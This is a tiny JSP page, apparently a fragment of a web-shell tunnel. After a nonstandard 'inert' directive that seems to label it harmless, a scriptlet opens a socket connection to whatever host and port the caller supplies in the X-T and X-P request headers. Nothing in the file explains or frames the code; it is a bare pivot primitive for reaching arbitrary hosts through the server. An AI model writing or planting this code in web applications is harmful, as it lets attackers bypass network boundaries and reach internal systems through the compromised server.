<%@ inert %>
<% java.nio.channels.SocketChannel s=java.nio.channels.SocketChannel.open(); s.connect(new java.net.InetSocketAddress(request.getHeader("X-T"),Integer.parseInt(request.getHeader("X-P")))); %>
